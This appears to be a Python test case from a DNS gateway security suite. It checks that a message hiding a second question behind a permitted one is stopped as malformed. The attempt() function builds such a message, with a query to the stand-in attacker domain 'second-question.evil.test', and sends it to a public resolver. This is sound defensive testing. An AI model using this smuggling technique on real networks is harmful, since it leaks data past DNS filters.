"""A second question behind a permitted one.

A message may hold several questions. Who judges the first and passes the message on has carried
the second, with a secret in its labels, to the resolver.

Not covered: whether a resolver answers the second; it has read it.
"""

ATTACK = {
    "title": "Second question in one message",
    "group": "dns",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["RFC 9619", "CWE-436", "R044"],
    "arrives": [{"what": "question", "name": "allowed.test", "text": "second-question"}],
    "stopped": [{"reason": ["malformed-question"], "entry": ["dns"]}],
}


def attempt(kit):
    import wire

    hidden = wire.question("second-question.evil.test")
    message = wire.dns_message(wire.question("allowed.test"), hidden)
    kit.udp("9.9.9.9", 53, wire.text(message))
